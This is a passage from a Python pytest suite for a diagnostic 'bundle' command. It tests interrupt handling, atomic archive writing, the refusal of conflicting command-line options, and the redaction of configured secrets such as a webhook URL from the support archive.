    received: list[str] = []

    def interrupting(method: Callable[..., Any]) -> Callable[..., Any]:
        def call(*given: Any, **named: Any) -> Any:
            os.kill(os.getpid(), signal.SIGINT)
            return method(*given, **named)

        return call

    module, name = {
        "run": (bundles, "run_once"),
        "host": (HostFiles, "start"),
        "list": (bundles, "packed"),
    }[phase]
    monkeypatch.setattr(module, name, interrupting(getattr(module, name)))
    with pytest.raises(InterruptedBySignalError):
        made(OPTIONS, this_host(root), "healthy", received_signals=received)
    assert received[0] == "SIGINT"
    assert [*place.iterdir()] == []
    assert capsys.readouterr().out == ""


@pytest.mark.usefixtures("_heeding")
def test_a_signal_after_it_is_written_is_the_exit_code(
    place: Path, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def writing(data: bytes, path: Path) -> None:
        to_new_file(data, path)
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr("agent.app.bundle.to_new_file", writing)
    assert made(OPTIONS, this_host(root), "healthy", received_signals=[]) == 143
    assert [*read(only(place).read_bytes())][:2] == ["README.txt", "report.json"]


@pytest.mark.parametrize(("phase", "is_there"), [(Phase.MEASURING, False), (Phase.FILE_REPLACED, True)])
def test_an_interrupt_of_the_process_leaves_a_whole_archive_or_none(
    phase: Phase, is_there: bool, tmp_path: Path
) -> None:
    path = tmp_path / "case.tar.gz"
    words = ("--service", "backup", "--no-api", "--no-ec2", "--deadline", "1", "--output", str(path))
    done = completed((sys.executable, "-m", "tests.process.signalled", "SIGINT", f"{phase}:1", "bundle", *words))
    assert done.returncode == 130
    assert path.exists() is is_there
    if is_there:
        assert "report.json" in read(path.read_bytes())
        assert done.stdout == f"{path}\n"
    else:
        assert done.stdout.startswith("UNKNOWN  interrupted by SIGINT")


# --- The command -----------------------------------------------------------------------------------------------------


def called(capsys: pytest.CaptureFixture[str], *words: object) -> tuple[int, str, str]:
    code = run(["bundle", *map(str, words)])
    return code, *capsys.readouterr()


def test_the_command_with_a_saved_report(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = saved(place.parent / "r.json", report_of("three-faults"))
    code, out, _ = called(capsys, name)
    assert (code, out) == (0, f"{only(place).name}\n")
    code, out, _ = called(capsys, name)
    assert code == 3
    assert out.startswith("UNKNOWN")


def test_the_case_writes_nothing(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = saved(place.parent / "r.json", report_of("three-faults"))
    code, out, errors = called(capsys, name, "--case")
    assert (code, errors, [*place.iterdir()]) == (0, "", [])
    assert out.startswith("The block below shows ids")
    assert "vpc-0a1b2c3d4e5f67890" in out


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (("--case", "--output", "x"), "--output is for an archive, which --case does not write"),
        (("--case", "--plain"), "--plain is for an archive, which --case does not write"),
        (("--case", "--logs"), "--logs is for an archive, which --case does not write"),
        (("--case", "--wrong", "The path works."), "--wrong is for an archive, which --case does not write"),
        (("--wrong", ""), "'' is not a text that says what is true"),
        (("--wrong", " \n\t"), "is not a text that says what is true"),
        (("--wrong",), "requires an argument"),
        (("r.json", "--region", "eu-west-1"), "--region is for a new run, but REPORT names an earlier one"),
        (("--history", "h.db", "--no-ec2"), "--no-ec2 is for a new run, but --history names an earlier one"),
        (("r.json", "--output", "./r.json"), "--output ./r.json is the report, which it would replace"),
        (("--history", "h.db", "--output", "h.db"), "--output h.db is the history, which it would replace"),
        (("nowhere.json",), "nowhere.json: cannot be read: No such file or directory"),
        (("--history", "nowhere.db"), "nowhere.db: No such file or directory"),
        (("r.json", "--history", "r.json"), "r.json: is not a history of backuplink"),
        (("--output", "--plain"), "requires an argument"),
        (("--format", "json"), "No such option"),
    ],
)
def test_what_is_refused(words: tuple[str, ...], says: str, place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    saved(place / "r.json", report_of("healthy"))
    before = (place / "r.json").read_bytes()
    code, out, errors = called(capsys, *words)
    assert code == 3
    assert says in errors
    assert out.startswith(("UNKNOWN", "{"))
    assert [(path.name, path.read_bytes()) for path in place.iterdir()] == [("r.json", before)]


def test_a_new_run_of_this_host(place: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without a Region there is nothing to check, but the archive has all settings of this host."""
    config = tmp_path / "config.toml"
    config.write_text('deadline = 2\ninterval = 60\nnotify = "https://hooks.example/T0/B0"\n', "utf-8")
    words = ("--service", "backup", "--no-api", "--no-ec2", "--config", config, "--output", "x.tar.gz")
    code, out, errors = called(capsys, *words)
    assert (code, out) == (0, "x.tar.gz\n"), errors
    members = {name: content.decode() for name, content in read((place / "x.tar.gz").read_bytes()).items()}
    assert {"host/hosts", "host/routes.txt", "host/sockets.txt", "host/versions.txt"} <= {*members}
    assert members["settings.txt"].splitlines()[2:] == [
        "service = backup  (command line)",
        "deadline = 2.0  (configuration file)",
        "no-api = true  (command line)",
        "no-ec2 = true  (command line)",
        "config = file-1  (command line)",
        "interval = (set; not shown)  (configuration file, for other commands)",
        "notify = (set; not shown)  (configuration file, for other commands)",
    ]
    assert "hooks.example" not in "".join(members.values())
